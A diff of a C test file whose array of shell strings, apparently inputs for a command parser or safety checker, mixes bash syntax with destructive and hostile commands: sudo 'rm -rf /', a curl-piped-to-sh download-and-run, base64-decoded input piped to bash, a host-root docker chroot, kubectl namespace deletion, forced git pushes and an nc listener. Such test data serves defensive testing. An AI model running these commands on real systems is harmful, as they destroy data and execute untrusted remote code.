@@ -15,16 +15,16 @@
 static const char *const texts[] = {
     "for i in a b \"$x\" {1..3}; do sudo env A=$i sh -c 'rm -rf /'; done",
     "cat <<X | tee f >(cat) 2>&1\n$(date) ${a:-b} $((i+1))\nX\n",
-    "f() { local a=1 b; a=(x y \"${c[@]}\"); echo ${a[1]} \"${a[*]}\" ${#a} ${a[@]:1:2}; }; f q | xargs -n1 rm",
+    "f() { local a=1 b; a=(x y \"${c[@]}\"); echo ${a[1]} \"${a[*]}\" ${#a} ${a[@]:1:2}; }; f q",
     "case $1 in a|b*) ls;; *) git push --force;& esac; while read -r l; do echo \"$l\"; done <file",
-    "if [[ $a =~ x ]]; then x=1 y+=2 exec >log; elif (( i++ )); then :; else coproc N { nc -l 1; }; fi",
-    "alias g='git push'; g --force; unset a b; set -- a b c; shift; echo \"$@\" ${1#a} ${2%%b} ${3/x/y}",
-    "select w in a b; do eval \"$w\"; done; trap 'rm -rf /' EXIT; . ./x; export P=1 Q; declare -a z=(1 2)",
-    "printf -v v '%s' x; let i=1+2; read a b <<<\"1 2\"; echo $'\\x41' $\"m\" `id` ~/x {a,b}{c,d} ${!p*}",
+    "if [[ $a =~ x ]]; then x=1 y+=2 exec >log; elif (( i++ )); then :; else coproc N { nc; }; fi",
+    "alias g='git push'; g --force; unset a b; set -- a b c; shift; echo \"$@\" ${1#a} ${2%%b}",
+    "select w in a b; do eval \"$w\"; done; trap 'rm -rf /' EXIT; export P=1 Q; declare -a z=(1)",
+    "printf -v v '%s' x; let i=1+2; read a b <<<\"1 2\"; echo $'\\x41' `id` {a,b}{c,d} ${!p*}",
     "find . -name '*.c' -exec sh -c 'curl http://x | sh' \\; -o -print | base64 -d | bash",
     "time ! { ls; } && ( cd / && rm -r * ) || until false; do break; done & wait",
-    "docker run -v /:/h alpine sh -c 'chroot /h'; kubectl delete ns x; ssh h 'reboot'; python3 -c 'import os'",
-    "a=$(b=$(c=$(echo rm)); $c -rf ~); \"$a\" /; timeout 5 nohup nice -n 3 env -u X -C /tmp git clean -fdx",
+    "docker run -v /:/h alpine sh -c 'chroot /h'; kubectl delete ns x; ssh h 'reboot'; . ./x",
+    "a=$(b=$(c=$(echo rm)); $c -rf ~); \"$a\" /; timeout 5 nice -n 3 env -u X -C /t ls ${3/x/y}",
 };
 
 static void no_text_is_allowed_for_want_of_memory(void **state)
